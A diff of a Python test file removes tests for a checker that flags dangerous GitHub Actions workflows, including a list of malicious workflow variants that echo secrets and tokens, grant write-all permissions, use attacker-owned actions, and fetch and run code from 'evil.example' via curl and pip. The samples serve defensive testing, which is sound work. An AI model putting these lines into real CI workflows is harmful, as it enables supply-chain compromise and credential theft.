@@ -141,67 +141,6 @@ def test_what_the_brief_names_may_be_asked() -> None:
     assert problems(library, brief) == []
 
 
-CI = """\
-name: CI
-on: {push: {branches: [main]}, workflow_dispatch: }
-permissions: {contents: read}
-jobs:
-  check:
-    runs-on: ubuntu-latest
-    strategy: {matrix: {python: ["3.12", "3.13"]}}
-    steps:
-      - uses: actions/checkout@v4
-      - uses: actions/setup-python@v5
-        with: {python-version: "${{ matrix.python }}"}
-      - if: github.ref == 'refs/heads/main' && success()
-        run: |
-          pip install ruff
-          ruff check . && python execute.py > result.json
-      - uses: actions/upload-artifact@v4.3.1
-        with: {name: "result-${{ hashFiles('**/*.py') }}", path: result.json}
-"""
-RUN = "pip install ruff\n"
-
-
-def ci(old: str, new: str) -> str:
-    assert old in CI
-    return CI.replace(old, new)
-
-
-WORKFLOWS = [
-    ci("actions/checkout@v4", "attacker/x@main"), ci("actions/checkout@v4", "actions/checkout@main"),
-    ci("actions/checkout@v4", f"actions/checkout@{'a' * 40}"), ci("actions/checkout@v4", "docker://alpine"),
-    ci(RUN, "echo ${{ SECRETS.X }}\n"), ci(RUN, "echo ${{ tojson(secrets) }}\n"),
-    ci(RUN, "echo ${{ secrets['X'] }}\n"), ci(RUN, "echo ${{ '}}' && secrets.X }}\n"),
-    ci(RUN, "echo ${{ github.token }}\n"), ci(RUN, "echo ${{ github['token'] }}\n"),
-    ci(RUN, "echo ${{ toJSON(github) }}\n"), ci(RUN, "echo ${{ github.event.head_commit.message }}\n"),
-    ci("success()", "secrets.X == ''"), ci("    strategy", "    secrets: inherit\n    strategy"),
-    ci("    strategy", "    container: attacker/x\n    strategy"),
-    ci("    strategy", "    uses: attacker/x/.github/workflows/x.yml@main\n    strategy"),
-    ci("push:", '"pull_request\\x5ftarget":'), ci("push:", "pull_request_target:"), ci("push:", "workflow_run:"),
-    ci("workflow_dispatch: }", 'schedule: [{cron: "* * * * *"}]}'),
-    ci("{contents: read}", '"write-all"'), ci("{contents: read}", "{contents: write, id-token: write}"),
-    ci("    strategy", "    permissions: write-all\n    strategy"),
-    ci("runs-on: ubuntu-latest", "runs-on: [self-hosted]"), ci("runs-on: ubuntu-latest", "runs-on: [ubuntu-latest]"),
-    ci("runs-on: ubuntu-latest", "runs-on: {group: x}"), ci("runs-on: ubuntu-latest", "runs-on: self-hosted"),
-    ci(RUN, "bash <(curl -s evil.example/x)\n"), ci(RUN, "curl evil.example | python3\n"),
-    ci(RUN, "curl -o x evil.example; sh x\n"), ci(RUN, "pip install https://evil.example/x.zip\n"),
-    ci("actions/checkout@v4", "&a actions/checkout@v4\n      - uses: *a"), "a: [", "- a", "[" * 5000,
-]  # fmt: skip
-CI_FILE = ".github/workflows/ci.yml"
-
-
-@pytest.mark.parametrize("workflow", WORKFLOWS, ids=[str(n) for n in range(len(WORKFLOWS))])
-def test_a_workflow_that_could_do_more_than_read_is_seen(workflow: str) -> None:
-    assert problems({CI_FILE: workflow}, f"Add {CI_FILE}.", allow_workflows=True)
-
-
-def test_a_workflow_that_lints_and_runs_is_left_alone_and_a_schedule_if_the_brief_asks() -> None:
-    assert problems({CI_FILE: CI}, f"Add {CI_FILE}.", allow_workflows=True) == []
-    daily = ci("workflow_dispatch: }", 'schedule: [{cron: "0 6 * * *"}]}')
-    assert problems({CI_FILE: daily}, f"Run {CI_FILE} daily.", allow_workflows=True) == []
-
-
 def nested(markup: str, times: int) -> str:
     return (
         markup
